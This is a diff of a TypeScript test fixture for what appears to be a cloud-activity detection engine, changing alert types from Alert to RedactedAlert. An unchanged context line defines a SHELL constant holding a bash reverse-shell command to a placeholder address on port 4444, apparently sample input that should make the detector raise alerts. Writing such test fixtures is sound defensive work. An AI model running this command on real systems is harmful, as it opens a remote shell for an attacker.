@@ -1,4 +1,4 @@
-import type { Alert } from '../../../shared/model/alert'
+import type { RedactedAlert } from '../../../shared/model/redacted-alert'
 import { MINUTE } from '../../../shared/model/time'
 import { processActivity } from '../../../shared/pipeline/process-activity'
 import { agentProcess, awsActivity, azureActivity, NOON, principal } from '../../support/activity'
@@ -7,7 +7,7 @@ import { testDetector } from '../../support/detector'
 const SHELL = 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
 
 /** Alerts as the engine itself makes them: both clouds, texts, selectors, services, processes, and an update. */
-export const engineAlerts = async (): Promise<readonly Alert[]> => {
+export const engineAlerts = async (): Promise<readonly RedactedAlert[]> => {
   const detector = testDetector({ knownAdmins: ['nobody'], minSeverity: 'informational', realertMinutes: 1 })
   const activities = [
     awsActivity(),
